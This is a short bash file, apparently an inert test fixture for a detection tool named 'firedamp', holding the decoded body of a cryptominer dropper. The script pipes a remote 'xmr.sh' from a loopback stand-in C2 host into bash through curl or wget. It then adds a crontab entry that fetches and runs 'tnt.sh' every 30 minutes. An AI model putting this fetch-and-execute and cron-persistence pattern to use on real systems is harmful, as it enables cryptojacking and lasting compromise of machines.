#!/bin/bash
# INERT TEST FIXTURE for firedamp: the decoded body of c2/tnt.sh's base64 blob.
# Never executed; addresses are loopback or documentation space.
export PATH=$PATH:/bin:/usr/bin:/usr/local/bin:/usr/sbin
C2=http://127.0.0.66
if command -v curl >/dev/null; then
    curl -s $C2/xmr.sh | bash
else
    wget -q -O- $C2/xmr.sh | bash
fi
(crontab -l 2>/dev/null; echo "*/30 * * * * curl -s $C2/tnt.sh | bash") | crontab -
